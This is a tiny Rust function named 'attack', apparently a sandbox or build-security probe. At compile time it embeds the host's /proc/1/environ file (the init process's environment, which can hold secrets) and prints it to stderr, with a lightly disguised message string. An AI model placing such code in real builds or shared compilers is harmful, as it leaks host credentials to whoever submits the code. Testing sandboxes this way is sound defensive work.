
fn attack() {
    eprintln!(concat!("reac", "hed: {:?}"), include_bytes!("/proc/1/environ"));
}
